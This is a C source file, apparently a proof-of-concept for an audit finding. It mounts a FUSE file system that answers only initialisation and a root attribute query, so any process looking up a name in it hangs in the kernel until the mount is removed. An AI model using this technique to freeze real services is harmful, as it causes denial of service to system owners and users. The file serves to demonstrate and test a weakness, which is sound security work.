/*
 * Finding 2. A file system of the worker's user that answers nothing: whoever looks a name up in it waits in the kernel until
 * the mount is gone. Run by root, which mounts it, as a set-user-id fusermount would for its user (mount.fuse(8)).
 * hanging-files FOLDER UID: says "mounted", unmounts at SIGTERM.
 */
#include "attack.h"

#include <linux/fuse.h>
#include <sys/mount.h>

static volatile sig_atomic_t leaving;

static void on_signal(int number)
{
    (void)number;
    leaving = 1;
}

int main(int argc, char **argv)
{
    if (argc != 3)
        errno = EINVAL, broken("hanging-files FOLDER UID");
    char options[256], request[FUSE_MIN_READ_BUFFER + 65536];
    int fd = open("/dev/fuse", O_RDWR | O_CLOEXEC), asked = 0;
    if (fd < 0)
        broken("/dev/fuse");
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=%s,group_id=0,allow_other", fd, argv[2]);
    if (mount("hanging", argv[1], "fuse.hanging", MS_NOSUID | MS_NODEV, options) != 0)
        broken("mount %s", argv[1]);
    struct sigaction action = { .sa_handler = on_signal };
    sigaction(SIGTERM, &action, NULL);
    printf("mounted\n");
    fflush(stdout);
    while (!leaving) {
        long n = read(fd, request, sizeof request);
        struct fuse_in_header *in = (struct fuse_in_header *)request;
        if (n < (long)sizeof *in)
            continue;
        if (in->opcode == FUSE_INIT) {
            struct {
                struct fuse_out_header head;
                struct fuse_init_out init;
            } out = { .head = { .len = sizeof out, .unique = in->unique }, .init = { .major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION, .max_write = 65536 } };
            if (write(fd, &out, sizeof out) != sizeof out)
                break;
        } else if (in->opcode == FUSE_GETATTR && in->nodeid == FUSE_ROOT_ID) {
            /* The folder itself may be looked at, so that everybody gets as far as the names in it. */
            struct {
                struct fuse_out_header head;
                struct fuse_attr_out attr;
            } out = { .head = { .len = sizeof out, .unique = in->unique }, .attr = { .attr_valid = 3600, .attr = { .ino = 1, .mode = S_IFDIR | 0777, .nlink = 2, .uid = (uint32_t)atoi(argv[2]) } } };
            if (write(fd, &out, sizeof out) != sizeof out)
                break;
        } else
            asked++;
    }
    /* Whoever waits is told ENOTCONN when the descriptor is closed. */
    umount2(argv[1], MNT_DETACH);
    close(fd);
    printf("%d requests were left unanswered\n", asked);
    return asked ? FAILED : BROKEN;
}
